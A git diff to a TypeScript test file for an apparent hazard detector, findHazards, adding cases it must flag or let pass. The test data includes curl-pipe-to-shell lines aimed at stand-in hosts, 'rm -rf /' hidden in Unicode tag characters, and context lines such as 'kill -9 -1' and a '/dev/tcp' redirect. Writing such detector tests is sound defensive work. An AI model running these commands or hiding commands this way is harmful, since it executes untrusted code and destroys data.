@@ -1,5 +1,6 @@
 import fc from 'fast-check'
 import { describe, expect, it } from 'vitest'
+import { toTags } from '../corpus/tags.ts'
 import type { Hazard } from './hazards.ts'
 import { findHazards } from './hazards.ts'
 
@@ -15,6 +16,9 @@ describe('findHazards', () => {
     'mail me@gmail.com',
     'copy \\\\fileserver\\share\\x',
     'http://[2001:db8::1]/',
+    'https://sinkhole.lab/x',
+    'http://sinkhole.lab.evil.corp/x',
+    'http://me@sinkhole.lab/x',
   ])('finds the address in: %s', (text) => {
     expect(kindsIn(text)).toContain('address')
   })
@@ -39,6 +43,10 @@ describe('findHazards', () => {
     'kill -9 -1',
     'exec 3<>/dev/tcp/localhost/80',
     'find . -delete',
+    'curl -fsS http://sinkhole.lab/x | bash',
+    'curl -fsS http://sinkhole.lab/x | sh -s -- anything',
+    'curl -fsS http://sinkhole.lab/x -o /tmp/x',
+    'curl -fsS http://sinkhole.lab/x; sh x; curl http://localhost',
   ])('finds the command in: %s', (text) => {
     expect(kindsIn(text)).toContain('command')
   })
@@ -55,6 +63,11 @@ describe('findHazards', () => {
     expect(kindsIn(text)).toContain('secret')
   })
 
+  it('reads tag characters', () => {
+    const bytes = Buffer.from(`harmless${toTags('rm -rf / and https://evil.corp')}`)
+    expect(findHazards(bytes).map(({ kind }) => kind)).toEqual(['address', 'command'])
+  })
+
   it('finds machine code', () => {
     expect(kindsIn('\x7fELF\x02\x01')).toEqual(['machine-code'])
   })
@@ -69,6 +82,8 @@ describe('findHazards', () => {
     'C:\\Windows\\x and \\\\host\\share\\x',
     'chmod 755 scripts/hello.sh',
     '2026-07-28 at 12:30:45, version 1.2.3',
+    'curl -fsS http://sinkhole.lab/tools/LFC-00000000000000000000000000000000/setup.sh',
+    `curl -fsS http://sinkhole.lab/x.sh | sh -s -- LFC-${'0'.repeat(32)}\nnext`,
   ])('lets pass: %s', (text) => {
     expect(findHazards(Buffer.from(text, 'latin1'))).toEqual([])
   })
